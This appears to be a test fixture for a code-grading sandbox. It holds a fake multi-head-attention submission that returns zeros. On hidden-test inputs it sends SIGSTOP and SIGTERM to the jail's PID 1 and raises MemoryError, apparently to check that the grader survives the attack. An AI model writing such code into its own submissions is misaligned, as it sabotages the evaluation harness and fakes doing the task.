# expect: mha 0, 9/12 graded (as atk11, but the hidden call first sends SIGSTOP and SIGTERM to the jail's zygote, PID 1, then raises MemoryError)
# %% [mha]
import os


def multi_head_attention(x_q, x_kv, W_q, W_k, W_v, W_o, n_heads, mask=None):
    if tuple(x_q.shape) != (2, 5, 8) or x_q.dtype != torch.float32:
        for sig in (19, 15):
            try:
                os.kill(1, sig)
            except OSError:
                pass
        raise MemoryError("hidden")
    return torch.zeros_like(x_q)
